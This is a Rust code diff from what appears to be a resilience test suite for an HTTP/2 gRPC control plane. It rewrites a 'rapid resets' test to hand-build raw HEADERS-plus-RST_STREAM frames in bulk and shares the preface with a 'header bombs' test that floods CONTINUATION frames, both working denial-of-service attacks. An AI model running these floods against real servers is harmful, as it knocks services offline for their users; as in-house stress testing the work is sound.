@@ -385,30 +385,57 @@ async fn rapid_resets() {
             let Ok(tls) = evil.connect_silently().await else {
                 continue;
             };
-            let Ok((mut client, connection)) = h2::client::handshake(tls).await else {
-                continue;
-            };
             connections += 1;
-            let driver = tokio::spawn(connection);
-            while gets_through(began) {
-                let Ok(ready) = client.ready().await else {
+            let (mut reads, mut writes) = tokio::io::split(tls);
+            let reading = tokio::spawn(async move {
+                let _ended = tokio::io::copy(&mut reads, &mut tokio::io::sink()).await;
+            });
+            let _closed = writes.write_all(BEGIN).await;
+            for first in (1_u32..).step_by(128) {
+                let streams = (first..first + 128).step_by(2);
+                let frames: Vec<u8> = streams.flat_map(opened_and_reset).collect();
+                if !gets_through(began) || writes.write_all(&frames).await.is_err() {
                     break;
-                };
-                client = ready;
-                let path = "/weft.registry.v1.Registry/Observe";
-                let Ok((_answer, mut send)) = client.send_request(grpc(path), false) else {
-                    break;
-                };
-                let _: &mut h2::SendStream<bytes::Bytes> = &mut send;
-                send.send_reset(h2::Reason::CANCEL);
-                resets += 1;
+                }
+                resets += 64;
             }
-            driver.abort();
+            reading.abort();
         }
         (resets, connections)
     };
     let (resets, connections) = beside(&control_plane, "rapid resets", attack).await;
     println!("{resets} resets on {connections} connections");
+}
+
+/// The preface of HTTP/2, and settings without content.
+const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+
+/// HEADERS of a call, and RST_STREAM.
+fn opened_and_reset(stream: u32) -> Vec<u8> {
+    // `:method: POST`, `:scheme: https`, then literals with indexed names, and `te` with its own.
+    let mut fields = vec![0x83, 0x87];
+    let path = b"/weft.registry.v1.Registry/Observe";
+    for (name, value) in [
+        (&[0x04][..], &path[..]),
+        (&[0x01], b"control-plane.weft"),
+        (&[0x0f, 0x10], b"application/grpc"),
+        (b"\x00\x02te", b"trailers"),
+    ] {
+        fields.extend(name);
+        fields.push(u8::try_from(value.len()).unwrap());
+        fields.extend(value);
+    }
+    let length = u8::try_from(fields.len()).unwrap();
+    let id = stream.to_be_bytes();
+    [
+        &[0, 0, length, 1, 4],
+        &id[..],
+        &fields,
+        &[0, 0, 4, 3, 0],
+        &id,
+        &[0, 0, 0, 8],
+    ]
+    .concat()
 }
 
 /// Headers without an end, of which each byte is a whole field.
@@ -425,8 +452,7 @@ async fn header_bombs() {
                     let Ok(mut tls) = evil.connect_silently().await else {
                         continue;
                     };
-                    let begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
-                    let _closed = tls.write_all(begin).await;
+                    let _closed = tls.write_all(BEGIN).await;
                     // HEADERS and then CONTINUATION, of 16,384 times `:method: GET`.
                     let fields = [0x82; 16_384];
                     for kind in std::iter::once(1_u8).chain(std::iter::repeat(9)) {
